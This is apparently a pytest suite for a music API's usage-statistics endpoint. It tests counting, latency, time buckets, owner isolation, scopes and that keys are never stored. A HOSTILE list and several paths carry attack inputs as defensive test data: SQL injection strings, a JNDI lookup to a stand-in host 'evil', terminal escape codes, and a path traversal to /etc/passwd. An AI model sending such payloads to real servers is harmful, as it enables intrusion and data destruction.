"""`GET /usage/stats` tells exactly what was asked, to whom it belongs, and nothing that he should not see."""

from __future__ import annotations

import socket
import sqlite3
import time
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from contextlib import closing
from typing import Any

import httpx
import psycopg
import pytest
import sqlalchemy as sa

from aimusicverse import Client
from aimusicverse.secret import Secret
from aimusicverse.server.security.scopes import SCOPES
from aimusicverse.server.store.tables import usage
from tests.server.conftest import Api
from tests.server.security.keys import another_owner, create_key
from tests.server.security.keys import by as client_by
from tests.server.usage.conftest import after, by, stats


def test_so_many_requests_are_so_many_however_they_came(api: Api) -> None:
    with ThreadPoolExecutor(8) as threads:
        answers = list(threads.map(lambda _: api.get("/tracks").status_code, range(200)))
    assert answers == [200] * 200
    found = after(api, 200, group_by="endpoint")["data"]
    assert {one["endpoint"]: one["requests"] for one in found}["GET /tracks"] == 200


def test_every_kind_of_answer_is_counted_with_its_status_size_and_endpoint(api: Api) -> None:
    size = len(api.get("/tracks").content)
    size += len(api.get("/tracks/trk_unknown").content)
    size += len(api.post("/generate", json={"prompt": ""}).content)
    size += len(api.get("/events?nonsense=1").content)
    api.get("/tracks/trk_unknown", headers={"X-API-Key": "", "Authorization": "Bearer nonsense"})  # nobody's
    found = stats(api, group_by="endpoint")
    assert found["total"]["bytes_sent"] == size
    assert found["statuses"] == {"200": 1, "404": 1, "422": 2}
    assert {one["endpoint"]: (one["requests"], one["errors"]) for one in found["data"]} == {
        "GET /tracks": (1, 0),
        "GET /tracks/{track_id}": (1, 1),
        "POST /generate": (1, 1),
        "GET /events": (1, 1),
    }
    assert (found["total"]["errors"], found["total"]["server_errors"]) == (3, 0)
    latency = found["total"]["latency_ms"]
    assert 0 < latency["p50"] <= latency["p95"] <= latency["p99"] < 60_000
    assert latency["mean"] > 0


def test_audio_is_counted_by_the_bytes_that_were_sent(api: Api) -> None:
    track = api.generate()["tracks"][0]
    requests = stats(api)["total"]["requests"] + 1
    whole = len(api.get(f"/tracks/{track['id']}/audio").content)
    part = len(api.get(f"/tracks/{track['id']}/audio", headers={"Range": "bytes=0-99"}).content)
    [audio] = [
        one
        for one in after(api, requests + 2, group_by="endpoint")["data"]
        if one["endpoint"] == "GET /tracks/{track_id}/audio"
    ]
    assert (audio["requests"], audio["bytes_sent"]) == (2, whole + part)
    assert part == 100


def test_a_key_shows_exactly_what_was_asked_with_it_under_its_name(api: Api) -> None:
    key = create_key(api, scopes=("generate:write", "generate:read"), name="robot")
    with Client(key, api.server.url) as client:
        done = client.generate("lofi", duration_seconds=5)
        asked = client.raw(client.generation.get, done.id)
    assert asked.status == 200
    api.get("/tracks")
    found = by(api, "key")
    assert found["robot"] == sum(by(api, "endpoint", key_id=_key_id(api, "robot")).values())
    endpoints = by(api, "endpoint", key_id=_key_id(api, "robot"))
    assert endpoints.pop("POST /generate") == 1
    assert set(endpoints) == {"GET /generations/{generation_id}"}
    clients = stats(api, key_id=_key_id(api, "robot"))["clients"]
    assert [(one["client"], one["requests"]) for one in clients] == [("aimusicverse", found["robot"])]


def _key_id(api: Api, name: str) -> str:
    [one] = [one for one in stats(api, group_by="key")["data"] if one["key_name"] == name]
    return str(one["key_id"])


def test_the_share_of_the_sdk_is_told(api: Api) -> None:
    with Client(api.key, api.server.url) as client:
        for _ in range(3):
            client.tracks.list().page()
    api.get("/tracks", headers={"User-Agent": "curl/8.5.0"})
    found = stats(api)
    assert found["sdk_share"] == 0.75
    assert {one["client"]: one["requests"] for one in found["clients"]} == {"aimusicverse": 3, "curl": 1}


def test_each_sees_only_his_own(api: Api) -> None:
    other = another_owner(api)
    with client_by(api, other) as theirs:
        for _ in range(3):
            theirs.get("/tracks")
        api.get("/playlists")
        found = theirs.get("/usage/stats?group_by=endpoint").json()
        assert [one["endpoint"] for one in found["data"]] == ["GET /tracks"]
        mine = stats(api, group_by="key")
        assert by(api, "endpoint")["GET /playlists"] == 1
        assert "GET /tracks" not in by(api, "endpoint")
        [my_key] = [one["key_id"] for one in mine["data"]]
        assert theirs.get(f"/usage/stats?key_id={my_key}").json()["total"]["requests"] == 0


def test_it_needs_its_scope(api: Api) -> None:
    key = create_key(api, scopes=tuple({*SCOPES} - {"usage:read", "admin"}))
    refused = httpx.get(f"{api.server.url}/api/v1/usage/stats", headers={"X-API-Key": key})
    assert (refused.status_code, refused.json()["code"]) == (403, "scope_missing")
    assert "usage:read" in refused.json()["detail"]


def test_requests_on_either_side_of_a_full_hour_and_midnight_are_told_apart(
    api: Api, at: Callable[[str], None]
) -> None:
    at("03-31T22:59:50")
    api.get("/tracks")
    at("03-31T23:00:01")
    api.get("/tracks")
    at("03-31T23:59:50")
    api.get("/tracks")
    at("04-01T00:00:01")
    api.get("/tracks")
    assert by(api, "hour") == {
        "2031-03-31T22:00:00.000Z": 1,
        "2031-03-31T23:00:00.000Z": 2,
        "2031-04-01T00:00:00.000Z": 1,
    }
    assert by(api, "day") == {"2031-03-31T00:00:00.000Z": 3, "2031-04-01T00:00:00.000Z": 2}


def test_a_request_counts_in_the_hour_in_which_it_ended_even_if_it_is_written_in_the_next(
    api: Api, at: Callable[[str], None]
) -> None:
    at("05-05T11:59:58")
    answers = [api.get("/tracks").status_code for _ in range(10)]
    at("05-05T12:00:05")  # before the second in which they are written down
    assert set(answers) == {200}
    assert by(api, "hour")["2031-05-05T11:00:00.000Z"] == 10


def test_from_and_to_choose_whole_hours(api: Api, at: Callable[[str], None]) -> None:
    for moment in ("06-01T08:30:00", "06-01T09:30:00", "06-01T10:30:00"):
        at(moment)
        api.get("/tracks")
    day = "2031-06-01T"

    def hours(start: str, end: str) -> list[str]:
        found = by(api, "hour", **{"from": f"{day}{start}Z", "to": f"{day}{end}Z"})
        return [one.removeprefix(day)[:5] for one in found]

    assert hours("09:00:00", "10:00:00") == ["09:00"]
    assert hours("09:59:59", "10:00:00") == ["09:00"]
    assert hours("09:00:00", "10:00:01") == ["09:00", "10:00"]
    assert hours("00:00:00", "08:00:00") == []
    assert by(api, "hour", **{"from": "2031-06-01T11:30:00+02:00", "to": "2031-06-01T12:00:00+02:00"}) == {
        "2031-06-01T09:00:00.000Z": 1
    }


@pytest.mark.parametrize(
    ("query", "field"),
    [
        ({"from": "2026-01-02T00:00:00Z", "to": "2026-01-01T00:00:00Z"}, "query.from"),
        ({"from": "2026-01-01T00:00:00Z", "to": "2026-03-01T00:00:00Z", "group_by": "hour"}, "query.from"),
        ({"from": "2016-01-01T00:00:00Z", "to": "2026-03-01T00:00:00Z"}, "query.from"),
        ({"from": "yesterday"}, "query.from"),
        ({"from": "2026-01-01T00:00:00"}, "query.from"),
        ({"group_by": "user"}, "query.group_by"),
        ({"group_by": "key; DROP TABLE usage"}, "query.group_by"),
        ({"key_id": "k" * 41}, "query.key_id"),
        ({"owner_id": "usr_1"}, "query.owner_id"),
    ],
)
def test_what_cannot_be_asked_is_said_with_its_parameter(
    shared: Api, query: dict[str, str], field: str
) -> None:
    refused = shared.get("/usage/stats", params=query)
    assert (refused.status_code, refused.json()["code"]) == (422, "invalid_request")
    assert [error["field"] for error in refused.json()["errors"]] == [field]


def test_the_ends_of_time_are_no_defect(shared: Api) -> None:
    for query in (
        {"from": "0001-01-01T00:00:00Z", "to": "0001-01-01T00:00:01Z"},
        {"from": "9999-12-31T23:59:58Z", "to": "9999-12-31T23:59:59Z"},
        {"to": "0001-01-01T00:00:00Z"},
        {"from": "9999-12-31T23:59:58Z"},
    ):
        assert shared.get("/usage/stats", params=query).status_code in (200, 422), query


def test_what_a_long_poll_waits_is_no_latency(api: Api) -> None:
    assert api.get("/events?after=0&wait=2").json()["data"] == []
    [events] = stats(api, group_by="endpoint")["data"]
    assert events["endpoint"] == "GET /events"
    assert events["latency_ms"]["mean"] < 1_000


HOSTILE = [
    b"'; DROP TABLE usage; --",
    b"aimusicverse/1.0'); DELETE FROM usage; --",
    b"curl/8\x1b[31m",
    b"${jndi:ldap://evil/x}",
    "aimusicverse/‮".encode(),
    b"\xff\xfe\xfd",
    b"x" * 4_000,
    b"",
]


def test_hostile_user_agents_and_paths_leave_nothing_but_harmless_words(api: Api) -> None:
    paths = [
        "/api/v1/tracks/'%3B%20DROP%20TABLE%20usage%3B--",
        "/api/v1/%1b%5b31m",
        "/api/v1/../../etc/passwd",
        "/%ff",
    ]
    host, port = "127.0.0.1", int(api.server.url.rpartition(":")[2])
    for agent in HOSTILE:
        for path in paths:
            _raw(host, port, path.encode(), agent, api.key.encode())
    stats(api)
    rows = rows_of(api)
    texts = {str(value) for row in rows for value in (row.route, row.method, row.client)}
    assert texts <= {
        "",
        "GET",
        "/api/v1/tracks/{track_id}",
        "/api/v1/usage/stats",
        "other",
        "none",
        "python-httpx/" + httpx.__version__,
    }
    assert sum(row.requests for row in rows) >= len(HOSTILE) * len(paths) / 2


def _raw(host: str, port: int, path: bytes, agent: bytes, key: bytes) -> None:
    head = (
        b"GET %b HTTP/1.1\r\nHost: localhost\r\nUser-Agent: %b\r\nX-API-Key: %b\r\nConnection: close\r\n\r\n"
    )
    with closing(socket.create_connection((host, port), timeout=10)) as connection:
        connection.sendall(head % (path, agent, key))
        while connection.recv(65536):
            pass


def rows_of(api: Api) -> Any:
    return api.server.services.store.read_now(lambda tx: tx.all(sa.select(usage)))


def test_no_row_holds_a_key_wherever_it_was_sent(api: Api, database_url: Secret | None) -> None:
    keys = [api.key, create_key(api, name="another")]
    for key in keys:
        secret = key.split("_")[3]
        for where in (
            {"headers": {"X-API-Key": key}},
            {"headers": {"Authorization": f"Bearer {key}"}},
            {"headers": {"X-API-Key": key, "User-Agent": key}},
            {"headers": {"X-API-Key": key, "User-Agent": f"curl/{secret}"}},
            {"headers": {"X-API-Key": key, "User-Agent": secret}},
        ):
            httpx.get(f"{api.server.url}/api/v1/tracks/{key}", **where)
            httpx.get(f"{api.server.url}/api/v1/{secret}", **where)
            httpx.request(secret[:20].upper(), f"{api.server.url}/api/v1/tracks", **where)
    stats(api)
    assert rows_of(api)
    told = _everything_in("usage", api, database_url)
    for key in keys:
        secret = key.split("_")[3]
        assert secret not in told
        assert secret[:12] not in told
        assert secret[:12].upper() not in told


def _everything_in(table: str, api: Api, url: Secret | None) -> str:
    if url is None:
        with closing(sqlite3.connect(api.server.services.settings.data_dir / "amv.db")) as database:
            return repr(database.execute(f"SELECT * FROM {table}").fetchall())
    with psycopg.connect(url.get_secret_value()) as database:
        return repr(database.execute(f"SELECT * FROM {table}").fetchall())


def test_a_request_without_a_key_is_nobodys(api: Api) -> None:
    for _ in range(3):
        httpx.get(f"{api.server.url}/api/v1/tracks")
    httpx.get(f"{api.server.url}/healthz")
    assert stats(api)["total"]["requests"] == 0
    nobody = [row for row in rows_of(api) if not row.owner_id]
    assert {(row.route, row.status): row.requests for row in nobody} == {
        ("/api/v1/tracks", 401): 3,
        ("/healthz", 200): 1,
    }


def test_without_reading_it_is_written_within_about_a_second(api: Api) -> None:
    api.get("/tracks")
    deadline = time.monotonic() + 30
    while not rows_of(api):
        assert time.monotonic() < deadline
        time.sleep(0.05)


def test_a_reset_of_a_dev_server_leaves_no_usage_behind(start: Callable[..., Api], sqlite_only: None) -> None:
    api = start(dev=True)
    for _ in range(5):
        api.get("/tracks")
    assert api.http.post(f"{api.server.url}/_local/reset").status_code == 204
    assert set(by(api, "endpoint")) <= {"POST /_local/reset"}


def test_a_server_that_is_told_so_counts_nothing(start: Callable[..., Api]) -> None:
    api = start(usage=False)
    api.get("/tracks")
    assert stats(api)["total"]["requests"] == 0
    assert rows_of(api) == []


def test_what_was_asked_last_is_there_after_a_restart(start: Callable[..., Api]) -> None:
    api = start()
    for _ in range(7):
        api.get("/tracks")
    api.server.close()
    again = start()
    assert by(again, "endpoint")["GET /tracks"] == 7


def test_a_request_that_is_refused_at_the_door_is_counted(api: Api) -> None:
    api.post("/generate", content=b"x" * 2_000_000, headers={"Content-Type": "application/json"})
    stats(api)
    assert [row.status for row in rows_of(api) if row.method == "POST"] == [413]


def test_the_last_day_is_told_unless_it_is_asked_otherwise_and_by_the_day_the_last_month(
    api: Api, at: Callable[[str], None]
) -> None:
    at("07-01T12:00:00")
    api.get("/tracks")
    at("07-03T12:00:00")
    api.get("/playlists")
    assert by(api, "endpoint") == {"GET /playlists": 1}
    assert list(by(api, "day")) == ["2031-07-01T00:00:00.000Z", "2031-07-03T00:00:00.000Z"]
